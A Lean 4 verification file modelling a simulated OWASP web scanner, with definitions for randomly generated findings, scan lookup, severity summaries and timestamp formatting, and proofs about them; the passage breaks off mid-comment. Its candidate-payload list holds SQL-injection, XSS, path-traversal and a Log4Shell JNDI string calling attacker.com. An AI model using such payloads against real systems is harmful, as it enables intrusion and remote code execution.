import Mathlib

/-!
# Verification of the simulated OWASP scanner core

A shallow embedding of `src/scanner/engine.py` and
`src/scanner/report_generator.py`, together with theorems about the
behaviour of the embedded operations.

Randomness is embedded by passing the draws of the process-wide random
generator explicitly: every call the Python code makes to `random.choice`,
`random.choices`, `random.randint` or `time.time()` corresponds to one
field of an oracle record (`VulnChoices`) or one reading of an abstract
clock (`Nat → Nat`).  Quantifying over the oracle quantifies over every
possible run of the original program.
-/

/-- `str.lower()` on one character: ASCII case-mapping, which coincides
with Python's on every string this program lower-cases. -/
def pyLowerChar (c : Char) : Char :=
  if 'A' ≤ c ∧ c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

/-- `str.lower()` (ASCII case-mapping, see `pyLowerChar`). -/
def pyLower (s : String) : String :=
  String.mk (s.toList.map pyLowerChar)

namespace Scanner

/-! ## Constants (`engine.py`, lines 12-22) -/

def SCAN_STATUS_PENDING : String := "pending"

def SCAN_STATUS_RUNNING : String := "running"

def SCAN_STATUS_COMPLETED : String := "completed"

def SCAN_STATUS_FAILED : String := "failed"

def SEVERITY_HIGH : String := "high"

def SEVERITY_MEDIUM : String := "medium"

def SEVERITY_LOW : String := "low"

def SEVERITY_INFO : String := "info"

/-! ## Data model -/

/-- The `Vulnerability` dataclass of `engine.py` (lines 24-40).  All fields
are strings, with the same defaults as in the source. -/
structure Vulnerability where
  id : String
  name : String
  description : String
  severity : String
  url : String
  solution : String
  reference : String := ""
  cwe : String := ""
  wasc : String := ""
  param : String := ""
  attack : String := ""
  evidence : String := ""
  risk : String := ""
  confidence : String := ""
deriving Repr, DecidableEq

/-- The scan-state dictionary created by `start_scan` (`engine.py`,
lines 76-85).  `end_time` is `None` until completion, hence an `Option`. -/
structure Scan where
  id : String
  target : String
  status : String
  start_time : Nat
  end_time : Option Nat
  progress : Nat
  vulnerabilities : List Vulnerability
  user_agent : String
deriving Repr, DecidableEq

/-- One element of a `random.choice(lst)` style draw: the oracle supplies
an arbitrary natural number and the element at that index (mod the list
length) is picked, so every element of the list is reachable and nothing
outside it is. -/
def pyChoice (l : List String) (i : Nat) : String :=
  l.getD (i % l.length) ""

theorem pyChoice_mem (l : List String) (i : Nat) (h : l ≠ []) :
    pyChoice l i ∈ l := by
  have hlen : 0 < l.length := List.length_pos.mpr h
  have hlt : i % l.length < l.length := Nat.mod_lt _ hlen
  simp only [pyChoice, List.getD_eq_getElem?_getD, List.getElem?_eq_getElem hlt,
    Option.getD_some]
  exact List.getElem_mem hlt

/-- The random draws consumed by one call to
`OWASPScanner._add_random_vulnerability` (`engine.py`, lines 168-253).
Each field records one call to the random generator or to `time.time()`:

* `now`      — `int(time.time())` used in the finding id;
* `randId`   — `random.randint(1000, 9999)` in the finding id, embedded as
  `1000 + randId % 9000`;
* `sevIdx`   — the pick of `random.choices([...], weights=[...])[0]`
  (the weights bias the draw but every listed severity is reachable, so
  the pick is embedded as an arbitrary index into the candidate list);
* `typeIdx`  — `random.choice` over the per-severity type catalogue;
* `segCount` — `random.randint(1, 3)` path-segment count, as `1 + segCount % 3`;
* `segIdx`   — `random.choice` for each URL path segment;
* `paramIdx`, `attackIdx`, `evidenceIdx`, `riskIdx`, `confIdx` — the
  remaining `random.choice` calls, in source order. -/
structure VulnChoices where
  now : Nat
  randId : Nat
  sevIdx : Nat
  typeIdx : Nat
  segCount : Nat
  segIdx : Nat → Nat
  paramIdx : Nat
  attackIdx : Nat
  evidenceIdx : Nat
  riskIdx : Nat
  confIdx : Nat

/-- High-severity type catalogue (`engine.py`, lines 191-197). -/
def highTypes : List String :=
  ["SQL Injection",
   "Cross-Site Scripting (XSS)",
   "Remote Code Execution",
   "Server-Side Request Forgery (SSRF)",
   "XML External Entity (XXE) Injection"]

/-- Medium-severity type catalogue (`engine.py`, lines 201-207). -/
def mediumTypes : List String :=
  ["Cross-Site Request Forgery (CSRF)",
   "Insecure Direct Object Reference (IDOR)",
   "Security Misconfiguration",
   "Broken Authentication",
   "Sensitive Data Exposure"]

/-- Low-severity type catalogue (`engine.py`, lines 211-217). -/
def lowTypes : List String :=
  ["Clickjacking",
   "Missing Security Headers",
   "Information Disclosure",
   "Cookie Without Secure Flag",
   "Cross-Domain Referrer Leakage"]

/-- Info-severity type catalogue (`engine.py`, lines 221-227). -/
def infoTypes : List String :=
  ["Missing HTTP Security Headers",
   "Server Information Disclosure",
   "Email Address Disclosure",
   "Insecure CORS Policy",
   "Deprecated Library Version"]

/-- Candidate parameter names for high/medium findings (`engine.py`, line 239). -/
def paramCandidates : List String :=
  ["id", "username", "q", "search", "email", ""]

/-- Candidate attack payloads for high/medium findings (`engine.py`, line 240).
The empty string is one of the candidates in the source. -/
def attackCandidates : List String :=
  ["\x27 OR \x271\x27=\x271",
   "<script>alert(1)</script>",
   "../../etc/passwd",
   "$\x7bjndi:ldap://attacker.com/exploit\x7d",
   ""]

/-- Candidate evidence strings for high/medium findings (`engine.py`, line 241). -/
def evidenceCandidates : List String :=
  ["SQL syntax error", "Reflected input detected", "Sensitive data in response", ""]

/-- URL path-segment candidates (`engine.py`, line 236). -/
def segmentCandidates : List String :=
  ["admin", "api", "wp-admin", "backup", "config"]

/-- The severity selection at the top of `_add_random_vulnerability`
(`engine.py`, lines 180-185): the forced severity when one is passed,
otherwise the weighted `random.choices` pick over the four levels. -/
def chosenSeverity (c : VulnChoices) (severity? : Option String) : String :=
  match severity? with
  | some s => s
  | none => pyChoice [SEVERITY_HIGH, SEVERITY_MEDIUM, SEVERITY_LOW, SEVERITY_INFO] c.sevIdx

/-- `OWASPScanner._add_random_vulnerability` (`engine.py`, lines 168-253),
with the random draws supplied by `c` and the mutation of the scan's
finding list factored out (the caller appends the returned record, exactly
as the source does on line 248). -/
def add_random_vulnerability (c : VulnChoices) (target : String)
    (severity? : Option String) : Vulnerability :=
  let severity := chosenSeverity c severity?
  let vuln_id := "vuln_" ++ toString c.now ++ "_" ++ toString (1000 + c.randId % 9000)
  let pick := if severity = SEVERITY_HIGH then
      (pyChoice highTypes c.typeIdx,
       "Update to the latest version of the affected component and implement proper input validation and output encoding.")
    else if severity = SEVERITY_MEDIUM then
      (pyChoice mediumTypes c.typeIdx,
       "Implement proper access controls, input validation, and ensure proper authentication checks are in place.")
    else if severity = SEVERITY_LOW then
      (pyChoice lowTypes c.typeIdx,
       "Update application configuration to implement security best practices and headers.")
    else
      (pyChoice infoTypes c.typeIdx,
       "Review and update the configuration to follow security best practices.")
  let vuln_type := pick.1
  let solution := pick.2
  let nseg := 1 + c.segCount % 3
  let segs := (List.range nseg).map (fun j => pyChoice segmentCandidates (c.segIdx j))
  { id := vuln_id
    name := vuln_type
    description := "A " ++ severity ++ " severity " ++ vuln_type.toLower ++
      " was detected on " ++ target ++ "."
    severity := severity
    url := target ++ "/" ++ String.intercalate "/" segs
    solution := solution
    reference := "https://owasp.org/www-community/vulnerabilities/" ++
      (((vuln_type.toLower.replace " " "-").replace "(" "").replace ")" "")
    param := if severity = SEVERITY_HIGH ∨ severity = SEVERITY_MEDIUM then
        pyChoice paramCandidates c.paramIdx else ""
    attack := if severity = SEVERITY_HIGH ∨ severity = SEVERITY_MEDIUM then
        pyChoice attackCandidates c.attackIdx else ""
    evidence := if severity = SEVERITY_HIGH ∨ severity = SEVERITY_MEDIUM then
        pyChoice evidenceCandidates c.evidenceIdx else ""
    risk := ((pyChoice ["High", "Medium", "Low", "Info"] c.riskIdx).take 1).toUpper
    confidence := ((pyChoice ["High", "Medium", "Low"] c.confIdx).take 1).toUpper }

/-- Default user agent of `start_scan` (`engine.py`, line 84). -/
def defaultUserAgent : String :=
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36"

/-- `OWASPScanner.start_scan` (`engine.py`, lines 63-90): the freshly
registered scan state and its id.  `now` is the `int(time.time())` reading
and `rand` the `random.randint(1000, 9999)` draw (as `1000 + rand % 9000`)
used to build the scan id. -/
def start_scan (now : Nat) (rand : Nat) (target_url : String)
    (user_agent : Option String) : String × Scan :=
  let scan_id := "scan_" ++ toString now ++ "_" ++ toString (1000 + rand % 9000)
  (scan_id,
   { id := scan_id
     target := target_url
     status := SCAN_STATUS_RUNNING
     start_time := now
     end_time := none
     progress := 0
     vulnerabilities := []
     user_agent := user_agent.getD defaultUserAgent })

/-- One iteration of the `update_progress` loop body (`engine.py`,
lines 144-160) at loop counter `i` (1-based).  `gen i` supplies the random
draws of an `_add_random_vulnerability` call made at step `i`, and
`clock i` is the `int(time.time())` reading at step `i` (the sleeping
between steps makes the readings non-decreasing in real runs). -/
def scanStep (gen : Nat → VulnChoices) (clock : Nat → Nat) (target : String)
    (scan : Scan) (i : Nat) : Scan :=
  let scan := { scan with progress := i }
  let scan :=
    if i % 15 = 0 ∧ i < 80 then
      { scan with vulnerabilities :=
          scan.vulnerabilities ++ [add_random_vulnerability (gen i) target none] }
    else scan
  if i = 100 then
    let scan := { scan with status := SCAN_STATUS_COMPLETED, end_time := some (clock i) }
    if scan.vulnerabilities.isEmpty then
      { scan with vulnerabilities :=
          scan.vulnerabilities ++ [add_random_vulnerability (gen i) target (some SEVERITY_LOW)] }
    else scan
  else scan

/-- The whole `update_progress` loop (`engine.py`, lines 144-160):
`for i in range(1, 101)` folded over the scan state. -/
def update_progress (gen : Nat → VulnChoices) (clock : Nat → Nat) (target : String)
    (scan : Scan) : Scan :=
  (List.range' 1 100).foldl (scanStep gen clock target) scan

/-! ## Scan lookup (`engine.py`, lines 92-131) -/

/-- The two failure modes of result retrieval, mirroring the two
`ValueError`s raised by `get_scan_results`: an unknown scan id, and a scan
whose status is not yet `completed` (the raised message carries the
current status). -/
inductive ScanError where
  | NotFound (scan_id : String)
  | NotReady (scan_id : String) (status : String)
deriving Repr, DecidableEq

/-- The scanner's registry `self.scans`, embedded as an association list
from scan id to scan state (insertion order of the Python dict preserved). -/
def ScanRegistry := List (String × Scan)

/-- `OWASPScanner.get_scan_results` (`engine.py`, lines 110-131): fails if
the id is not a key of the registry, fails if the registered scan is not
`completed`, and otherwise returns the scan's finding list verbatim. -/
def get_scan_results (scans : List (String × Scan)) (scan_id : String) :
    Except ScanError (List Vulnerability) :=
  match scans.find? (fun p => p.1 = scan_id) with
  | none => .error (.NotFound scan_id)
  | some p =>
    if p.2.status ≠ SCAN_STATUS_COMPLETED then
      .error (.NotReady scan_id p.2.status)
    else
      .ok p.2.vulnerabilities

end Scanner

namespace Report

/-! ## Report generator (`report_generator.py`) -/

/-- A finding record as the report generator consumes it: a dictionary
whose `"severity"` key may be absent (`_generate_summary` reads it with
`vuln.get("severity", "info")`, line 160).  Only the field the summary
reads is retained. -/
structure FindingRecord where
  severity : Option String
deriving Repr, DecidableEq

/-- The scan-results dictionary handed to `ReportGenerator`; the verified
methods only read its `"vulnerabilities"` entry
(`self.scan_results.get("vulnerabilities", [])`, line 159). -/
structure ScanResultsDoc where
  vulnerabilities : List FindingRecord
deriving Repr, DecidableEq

/-- The initial summary dictionary of `_generate_summary`
(`report_generator.py`, line 158), as an association list in the source's
key order. -/
def summaryInit : List (String × Nat) :=
  [("high", 0), ("medium", 0), ("low", 0), ("info", 0)]

/-- The `sev` computed on line 160 of `report_generator.py`: the record's
severity, defaulting a missing one to `"info"`, lower-cased. -/
def effSev (v : FindingRecord) : String :=
  pyLower (v.severity.getD "info")

/-- One iteration of the `_generate_summary` loop (`report_generator.py`,
lines 159-162): if `effSev v` is one of the summary's keys, increment that
entry (`if sev in summary: summary[sev] += 1`). -/
def summaryStep (summary : List (String × Nat)) (v : FindingRecord) :
    List (String × Nat) :=
  if summary.any (fun p => p.1 = effSev v) then
    summary.map (fun p => if p.1 = effSev v then (p.1, p.2 + 1) else p)
  else summary

/-- `ReportGenerator._generate_summary` (`report_generator.py`,
lines 157-163). -/
def generate_summary (doc : ScanResultsDoc) : List (String × Nat) :=
  doc.vulnerabilities.foldl summaryStep summaryInit

/-- Dictionary lookup in a summary association list (0 if absent). -/
def getCount (summary : List (String × Nat)) (k : String) : Nat :=
  ((summary.find? (fun p => p.1 = k)).map Prod.snd).getD 0

/-- Whether a finding record carries a severity whose lower-casing is `k`
(a record without a severity field never satisfies this). -/
def sevIs (k : String) (v : FindingRecord) : Bool :=
  match v.severity with
  | some s => pyLower s == k
  | none => false

/-! ### Timestamp formatting (`report_generator.py`, lines 165-176)

`datetime.fromtimestamp` / `datetime.fromisoformat` / `strftime` are
standard-library calls; they are embedded by the proleptic-Gregorian
calendar arithmetic they implement.  The local timezone used by
`fromtimestamp` is embedded as an explicit offset `tz` in seconds. -/

/-- A civil date-time as held by a Python `datetime` value (the fields
`strftime` reads). -/
structure DateTime where
  year : Nat
  month : Nat
  day : Nat
  hour : Nat
  minute : Nat
  second : Nat
deriving Repr, DecidableEq

/-- Gregorian leap-year test. -/
def isLeap (y : Nat) : Bool :=
  y % 4 = 0 && (y % 100 != 0 || y % 400 = 0)

/-- Month lengths of a (leap or common) year. -/
def monthLengths (leap : Bool) : List Nat :=
  [31, if leap then 29 else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31]

/-- Day count of month `m` (1-based) of year `y`. -/
def daysInMonth (y m : Nat) : Nat :=
  (monthLengths (isLeap y)).getD (m - 1) 0

/-- Split a 0-based day-of-year into a (1-based month, 1-based day) pair
by walking a month-length list. -/
def monthFromDoy : List Nat → Nat → Nat × Nat
  | [], doy => (1, doy + 1)
  | len :: rest, doy =>
    if doy < len then (1, doy + 1)
    else
      let md := monthFromDoy rest (doy - len)
      (md.1 + 1, md.2)

/-- Number of days in the proleptic-Gregorian years 1..9999 (the range a
Python `datetime` can hold). -/
def maxDayIndex : Nat := 3652059

/-- `datetime.fromtimestamp(t)` for an integral `t`, with the local
timezone embedded as the offset `tz` (seconds east of UTC): `none` exactly
when the call would raise (the instant falls outside years 1..9999), the
civil local date-time otherwise.  `719162` is the day count from
0001-01-01 to the epoch 1970-01-01. -/
def fromtimestamp (tz : Int) (t : Int) : Option DateTime :=
  let localSeconds := t + tz
  let days : Int := localSeconds.ediv 86400
  let sod : Nat := (localSeconds.emod 86400).toNat
  let dayIndex : Int := days + 719162
  if 0 ≤ dayIndex ∧ dayIndex < (maxDayIndex : Int) then
    let n : Nat := dayIndex.toNat
    let q400 := n / 146097
    let r1 := n % 146097
    let q100 := min (r1 / 36524) 3
    let r2 := r1 - q100 * 36524
    let q4 := r2 / 1461
    let r3 := r2 % 1461
    let q1 := min (r3 / 365) 3
    let r4 := r3 - q1 * 365
    let year := 400 * q400 + 100 * q100 + 4 * q4 + q1 + 1
    let md := monthFromDoy (monthLengths (isLeap year)) r4
    some { year := year, month := md.1, day := md.2,
           hour := sod / 3600, minute := sod % 3600 / 60, second := sod % 60 }
  else
    none

/-- The decimal digit character of `n % 10`. -/
def digitCharAux : Nat → Char
  | 0 => '0' | 1 => '1' | 2 => '2' | 3 => '3' | 4 => '4'
  | 5 => '5' | 6 => '6' | 7 => '7' | 8 => '8' | _ => '9'

/-- Lowest decimal digit of `n`, as a character. -/
def digitChar (n : Nat) : Char := digitCharAux (n % 10)

/-- A zero-padded two-digit field of `strftime` (`%d`, `%m`, `%H`, `%M`,
`%S`); datetime validity bounds every such field below 100, where this
rendering agrees with `strftime`. -/
def pad2 (n : Nat) : String := String.mk [digitChar (n / 10), digitChar n]

/-- The zero-padded four-digit `%Y` field of `strftime`; datetime validity
bounds the year below 10000, where this rendering agrees with `strftime`. -/
def pad4 (n : Nat) : String :=
  String.mk [digitChar (n / 1000), digitChar (n / 100), digitChar (n / 10), digitChar n]

/-- `dt.strftime("%d/%m/%Y %H:%M:%S")` (`report_generator.py`, line 174). -/
def formatDateTime (dt : DateTime) : String :=
  pad2 dt.day ++ "/" ++ pad2 dt.month ++ "/" ++ pad4 dt.year ++ " " ++
  pad2 dt.hour ++ ":" ++ pad2 dt.minute ++ ":" ++ pad2 dt.second

/-- Whether a string has the shape `DD/MM/YYYY HH:MM:SS`: nineteen
characters, digits in the date/time slots, and the literal separators of
the format string in between. -/
def isDateTimeForm (s : String) : Bool :=
  let cs := s.toList
  cs.length = 19 &&
  cs.getD 2 ' ' == '/' && cs.getD 5 ' ' == '/' && cs.getD 10 '/' == ' ' &&
  cs.getD 13 ' ' == ':' && cs.getD 16 ' ' == ':' &&
  ([cs.getD 0 ' ', cs.getD 1 ' ', cs.getD 3 ' ', cs.getD 4 ' ',
    cs.getD 6 ' ', cs.getD 7 ' ', cs.getD 8 ' ', cs.getD 9 ' ',
    cs.getD 11 ' ', cs.getD 12 ' ', cs.getD 14 ' ', cs.getD 15 ' ',
    cs.getD 17 ' ', cs.getD 18 ' '].all Char.isDigit)

/-- Numeric value of a decimal digit character, `none` otherwise. -/
def digitValue (c : Char) : Option Nat :=
  if c.isDigit then some (c.toNat - 48) else none

/-- Two decimal digit characters as a number. -/
def parseDigits2 (a b : Char) : Option Nat := do
  let x ← digitValue a
  let y ← digitValue b
  pure (10 * x + y)

/-- Four decimal digit characters as a number. -/
def parseDigits4 (a b c d : Char) : Option Nat := do
  let x ← digitValue a
  let y ← digitValue b
  let z ← digitValue c
  let w ← digitValue d
  pure (1000 * x + 100 * y + 10 * z + w)

/-- Construct a `datetime` value, `none` when the components fail the
validation `datetime.__new__` performs. -/
def mkDateTime (y mo d h mi s : Nat) : Option DateTime :=
  if 1 ≤ y ∧ y ≤ 9999 ∧ 1 ≤ mo ∧ mo ≤ 12 ∧ 1 ≤ d ∧ d ≤ daysInMonth y mo ∧
      h ≤ 23 ∧ mi ≤ 59 ∧ s ≤ 59 then
    some { year := y, month := mo, day := d, hour := h, minute := mi, second := s }
  else
    none

/-- `datetime.fromisoformat` on the grammar the formatter can feed it:
`YYYY-MM-DD`, optionally followed by a one-character separator and
`HH:MM`, `HH:MM:SS`, or `HH:MM:SS±HH:MM`; component validation as in
`datetime`.  `none` models the `ValueError` the try/except of
`_format_timestamp` catches. -/
def fromisoformat (s : String) : Option DateTime :=
  match s.toList with
  | [y1, y2, y3, y4, '-', m1, m2, '-', d1, d2] => do
    let y ← parseDigits4 y1 y2 y3 y4
    let mo ← parseDigits2 m1 m2
    let d ← parseDigits2 d1 d2
    mkDateTime y mo d 0 0 0
  | [y1, y2, y3, y4, '-', m1, m2, '-', d1, d2, _,
     h1, h2, ':', n1, n2] => do
    let y ← parseDigits4 y1 y2 y3 y4
    let mo ← parseDigits2 m1 m2
    let d ← parseDigits2 d1 d2
    let h ← parseDigits2 h1 h2
    let n ← parseDigits2 n1 n2
    mkDateTime y mo d h n 0
  | [y1, y2, y3, y4, '-', m1, m2, '-', d1, d2, _,
     h1, h2, ':', n1, n2, ':', s1, s2] => do
    let y ← parseDigits4 y1 y2 y3 y4
    let mo ← parseDigits2 m1 m2
    let d ← parseDigits2 d1 d2
    let h ← parseDigits2 h1 h2
    let n ← parseDigits2 n1 n2
    let ss ← parseDigits2 s1 s2
    mkDateTime y mo d h n ss
  | [y1, y2, y3, y4, '-', m1, m2, '-', d1, d2, _,
     h1, h2, ':', n1, n2, ':', s1, s2, sign, o1, o2, ':', o3, o4] =>
    if sign = '+' ∨ sign = '-' then do
      let y ← parseDigits4 y1 y2 y3 y4
      let mo ← parseDigits2 m1 m2
      let d ← parseDigits2 d1 d2
      let h ← parseDigits2 h1 h2
      let n ← parseDigits2 n1 n2
      let ss ← parseDigits2 s1 s2
      let oh ← parseDigits2 o1 o2
      let om ← parseDigits2 o3 o4
      if oh ≤ 23 ∧ om ≤ 59 then mkDateTime y mo d h n ss else none
    else
      none
  | _ => none

/-- `str.replace('Z', '+00:00')` on a character list: every occurrence of
`'Z'` becomes `+00:00` (`report_generator.py`, line 173). -/
def replaceZ : List Char → List Char
  | [] => []
  | c :: rest =>
    if c = 'Z' then '+' :: '0' :: '0' :: ':' :: '0' :: '0' :: replaceZ rest
    else c :: replaceZ rest

/-- `s.replace('Z', '+00:00')` as called on line 173 of
`report_generator.py` (the pattern is the single character `Z`). -/
def pyReplaceZ (s : String) : String := String.mk (replaceZ s.toList)

/-- The argument of `_format_timestamp`: `None`, a number, or a string.
Python `int` and `float` timestamps are both embedded by their integral
seconds (`strftime` discards fractions, and a float is falsy exactly when
its value is zero). -/
inductive PyTimestamp where
  | none
  | num (n : Int)
  | str (s : String)
deriving Repr, DecidableEq

/-- Python truthiness of a `PyTimestamp` (`if not timestamp`, line 167):
`None`, zero, and the empty string are falsy. -/
def pyFalsy : PyTimestamp → Bool
  | .none => true
  | .num n => n == 0
  | .str s => s == ""

/-- `str(timestamp)`, the except-branch fallback (line 176). -/
def pyStr : PyTimestamp → String
  | .none => "None"
  | .num n => toString n
  | .str s => s

/-- `ReportGenerator._format_timestamp` (`report_generator.py`,
lines 165-176), with the local timezone of `datetime.fromtimestamp`
embedded as the offset `tz`.  The `try`/`except` is embedded by the
`Option` results of the conversion functions: a `none` takes the
except-branch, which returns `str(timestamp)`. -/
def format_timestamp (tz : Int) (timestamp : PyTimestamp) : String :=
  if pyFalsy timestamp then "N/A"
  else
    match timestamp with
    | .none => "N/A"
    | .num n =>
      match fromtimestamp tz n with
      | some dt => formatDateTime dt
      | Option.none => pyStr (.num n)
    | .str s =>
      match fromisoformat (pyReplaceZ s) with
      | some dt => formatDateTime dt
      | Option.none => s

/-- `ReportGenerator.generate_pdf_report` (`report_generator.py`,
lines 72-155).  The module-level `REPORTLAB_AVAILABLE` flag (lines 13-24)
is an explicit argument; when it is `false` the method returns `None`
immediately (lines 73-74).  Otherwise the method renders the document —
an effect outside the embedding — and returns the artifact path built
from the output directory and the (defaulted, `.pdf`-suffixed) filename. -/
def generate_pdf_report (reportlab_available : Bool) (output_dir : String)
    (timestamp : String) (scan_results : ScanResultsDoc)
    (filename : Option String) : Option String :=
  if !reportlab_available then
    none
  else
    let fn := match filename with
      | Option.none => "scan_report_" ++ timestamp ++ ".pdf"
      | some f =>
        if f = "" then "scan_report_" ++ timestamp ++ ".pdf"
        else if f.endsWith ".pdf" then f
        else f ++ ".pdf"
    let _ := scan_results
    some (output_dir ++ "/" ++ fn)

end Report

/-! ## Claims -/

open Scanner Report

/-- C1: for every scan id, `get_scan_results` fails with `NotFound` when
the id is not a key of the scanner's registry; fails with `NotReady` when
the registered scan's status is not `completed`; and otherwise returns
that scan's finding list exactly as stored (insertion order preserved). -/
theorem C1_get_scan_results_spec (scans : List (String × Scan)) (scan_id : String) :
    (scans.find? (fun q => q.1 = scan_id) = none →
      get_scan_results scans scan_id = .error (.NotFound scan_id)) ∧
    (∀ q, scans.find? (fun q => q.1 = scan_id) = some q →
      q.2.status ≠ SCAN_STATUS_COMPLETED →
      get_scan_results scans scan_id = .error (.NotReady scan_id q.2.status)) ∧
    (∀ q, scans.find? (fun q => q.1 = scan_id) = some q →
      q.2.status = SCAN_STATUS_COMPLETED →
      get_scan_results scans scan_id = .ok q.2.vulnerabilities) := by
  refine ⟨fun h => ?_, fun q hq hs => ?_, fun q hq hs => ?_⟩
  · simp [get_scan_results, h]
  · simp [get_scan_results, hq, hs]
  · simp [get_scan_results, hq, hs]

/-- Witness for C1: a registry with one completed and one running scan;
the completed one yields its findings, the running one `NotReady`, and an
unknown id `NotFound`. -/
theorem C1_get_scan_results_spec_witness :
    (get_scan_results
      [("done", { (start_scan 42 7 "http://t" none).2 with status := SCAN_STATUS_COMPLETED }),
       ("run", (start_scan 43 8 "http://t" none).2)] "done" = .ok []) ∧
    (get_scan_results
      [("done", { (start_scan 42 7 "http://t" none).2 with status := SCAN_STATUS_COMPLETED }),
       ("run", (start_scan 43 8 "http://t" none).2)] "run"
      = .error (.NotReady "run" SCAN_STATUS_RUNNING)) ∧
    (get_scan_results
      [("done", { (start_scan 42 7 "http://t" none).2 with status := SCAN_STATUS_COMPLETED }),
       ("run", (start_scan 43 8 "http://t" none).2)] "missing"
      = .error (.NotFound "missing")) := by
  refine ⟨(C1_get_scan_results_spec _ "done").2.2
            ("done", { (start_scan 42 7 "http://t" none).2 with status := SCAN_STATUS_COMPLETED })
            (by decide) (by decide),
          (C1_get_scan_results_spec _ "run").2.1
            ("run", (start_scan 43 8 "http://t" none).2)
            (by decide) (by decide),
          (C1_get_scan_results_spec _ "missing").1 (by decide)⟩

/-- C8: when the document-rendering dependency (reportlab) is unavailable,
`generate_pdf_report` returns `None` for every scan state and every
filename argument, without any other outcome. -/
theorem C8_generate_pdf_report_unavailable (output_dir timestamp : String)
    (scan_results : ScanResultsDoc) (filename : Option String) :
    generate_pdf_report false output_dir timestamp scan_results filename = none := rfl

/-- C10: `_format_timestamp` returns exactly `"N/A"` for every falsy
input — `None`, the number zero, and the empty string — so the epoch
timestamp 0 is never rendered as a formatted date. -/
theorem C10_format_timestamp_falsy (tz : Int) :
    format_timestamp tz .none = "N/A" ∧
    format_timestamp tz (.num 0) = "N/A" ∧
    format_timestamp tz (.str "") = "N/A" :=
  ⟨rfl, rfl, rfl⟩

/-- Evaluation of one summary step on the four-key dictionary shape that
`_generate_summary` maintains. -/
theorem summaryStep_quad (a b c d : Nat) (v : FindingRecord) :
    summaryStep [("high", a), ("medium", b), ("low", c), ("info", d)] v =
      [("high", if effSev v = "high" then a + 1 else a),
       ("medium", if effSev v = "medium" then b + 1 else b),
       ("low", if effSev v = "low" then c + 1 else c),
       ("info", if effSev v = "info" then d + 1 else d)] := by
  by_cases h1 : effSev v = "high"
  · simp [summaryStep, h1]
  by_cases h2 : effSev v = "medium"
  · simp [summaryStep, h2]
  by_cases h3 : effSev v = "low"
  · simp [summaryStep, h3]
  by_cases h4 : effSev v = "info"
  · simp [summaryStep, h4]
  simp [summaryStep, h1, h2, h3, h4, Ne.symm h1, Ne.symm h2, Ne.symm h3, Ne.symm h4]

/-- Closed form of the `_generate_summary` fold: starting from the
four-key dictionary, each key ends up incremented by the number of
findings whose effective severity is that key. -/
theorem summary_foldl_form (vs : List FindingRecord) (a b c d : Nat) :
    vs.foldl summaryStep [("high", a), ("medium", b), ("low", c), ("info", d)] =
      [("high", a + vs.countP (fun v => effSev v == "high")),
       ("medium", b + vs.countP (fun v => effSev v == "medium")),
       ("low", c + vs.countP (fun v => effSev v == "low")),
       ("info", d + vs.countP (fun v => effSev v == "info"))] := by
  induction vs generalizing a b c d with
  | nil => simp
  | cons v vs ih =>
    rw [List.foldl_cons, summaryStep_quad, ih]
    by_cases h1 : effSev v = "high"
    · simp [h1, List.countP_cons]
      all_goals omega
    by_cases h2 : effSev v = "medium"
    · simp [h2, List.countP_cons]
      all_goals omega
    by_cases h3 : effSev v = "low"
    · simp [h3, List.countP_cons]
      all_goals omega
    by_cases h4 : effSev v = "info"
    · simp [h4, List.countP_cons]
      all_goals omega
    simp [h1, h2, h3, h4, List.countP_cons]

/-- Under the engine's data model every finding carries a severity; on
such lists the effective-severity count agrees with the count of findings
whose severity lower-cases to the key. -/
theorem countP_effSev_eq_sevIs (vs : List FindingRecord) (k : String)
    (h : ∀ v ∈ vs, v.severity.isSome = true) :
    vs.countP (fun v => effSev v == k) = vs.countP (sevIs k) := by
  refine List.countP_congr fun v hv => ?_
  obtain ⟨s, hs⟩ := Option.isSome_iff_exists.mp (h v hv)
  simp [effSev, sevIs, hs]

/-- C2: for every scan state whose findings all carry a severity field,
`_generate_summary` returns a mapping whose key set is exactly
high, medium, low, info (in that order), each key counting the findings
whose severity lower-cases to it; unknown severities are ignored without
error; and on findings `[high, low, low]` the result is
`{high: 1, medium: 0, low: 2, info: 0}`. -/
theorem C2_generate_summary_spec (doc : ScanResultsDoc)
    (h : ∀ v ∈ doc.vulnerabilities, v.severity.isSome = true) :
    ((generate_summary doc).map Prod.fst = ["high", "medium", "low", "info"]) ∧
    (∀ k ∈ (["high", "medium", "low", "info"] : List String),
      getCount (generate_summary doc) k = doc.vulnerabilities.countP (sevIs k)) ∧
    generate_summary ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩ =
      [("high", 1), ("medium", 0), ("low", 2), ("info", 0)] := by
  refine ⟨?_, ?_, by decide⟩
  · show ((doc.vulnerabilities.foldl summaryStep
      [("high", 0), ("medium", 0), ("low", 0), ("info", 0)]).map Prod.fst = _)
    rw [summary_foldl_form]
    rfl
  · intro k hk
    show getCount (doc.vulnerabilities.foldl summaryStep
      [("high", 0), ("medium", 0), ("low", 0), ("info", 0)]) k = _
    rw [summary_foldl_form]
    have hk' : k = "high" ∨ k = "medium" ∨ k = "low" ∨ k = "info" := by
      simpa using hk
    rcases hk' with rfl | rfl | rfl | rfl <;>
      simp [getCount, countP_effSev_eq_sevIs _ _ h]

/-- Witness for C2 at the concrete finding list of the claim. -/
theorem C2_generate_summary_spec_witness :
    ((generate_summary ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩).map Prod.fst
        = ["high", "medium", "low", "info"]) ∧
    getCount (generate_summary ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩) "low"
        = [FindingRecord.mk (some "high"), ⟨some "low"⟩, ⟨some "low"⟩].countP (sevIs "low") ∧
    generate_summary ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩ =
      [("high", 1), ("medium", 0), ("low", 2), ("info", 0)] :=
  ⟨(C2_generate_summary_spec ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩ (by decide)).1,
   (C2_generate_summary_spec ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩ (by decide)).2.1
     "low" (by decide),
   (C2_generate_summary_spec ⟨[⟨some "high"⟩, ⟨some "low"⟩, ⟨some "low"⟩]⟩ (by decide)).2.2⟩

/-- C9: a finding record lacking a severity field entirely is counted in
the `info` bucket (the missing value defaults to `"info"`), unlike a
